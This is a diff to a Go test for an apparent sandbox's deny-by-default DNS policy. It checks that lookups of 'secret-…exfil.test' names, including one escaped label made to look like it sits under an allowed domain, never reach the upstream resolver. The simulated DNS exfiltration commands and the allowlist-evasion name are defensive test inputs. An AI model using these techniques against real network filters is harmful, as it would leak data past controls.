@@ -675,7 +675,8 @@ func TestHostProcGrantsNothing(t *testing.T) {
 // (secret.exfil.test reaches the name's servers through the host's
 // resolver), so a name no rule allows is answered empty and never
 // asked upstream, here a resolver of the test's own that records what
-// it is asked.
+// it is asked. Nor is a name that only reads as under an allowed domain:
+// secret.x\.allowed.test has the label "x.allowed" under test.
 func TestUnlistedNamesStayInside(t *testing.T) {
 	requireRoot(t)
 	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
@@ -702,8 +703,16 @@ func TestUnlistedNamesStayInside(t *testing.T) {
 			if backend.u == rootless {
 				withTunOpen(t)
 			}
+			mu.Lock()
+			asked = nil
+			mu.Unlock()
 			r := run(t, backend.u, append(append([]string{"--dns", pc.LocalAddr().String(), "--default-policy", "deny", "--allow-cidr", "203.0.113.10/32"}, backend.flags...),
 				"--", "sh", "-c", `dig +short +time=2 +tries=1 secret-4711.exfil.test; dig +short +tcp +time=2 +tries=1 secret-4712.exfil.test; curl -sS -m4 -o /dev/null http://203.0.113.10/ && echo reached`)...)
+			r2 := run(t, backend.u, append(append([]string{"--dns", pc.LocalAddr().String(), "--default-policy", "deny", "--allow-domain", "allowed.test"}, backend.flags...),
+				"--", "sh", "-c", `dig +short +time=2 +tries=1 'secret-4713.x\.allowed.test'; echo done`)...)
+			if r2.code != 0 || r2.stdout != "done\n" {
+				t.Error(r2)
+			}
 			time.Sleep(100 * time.Millisecond)
 			mu.Lock()
 			defer mu.Unlock()
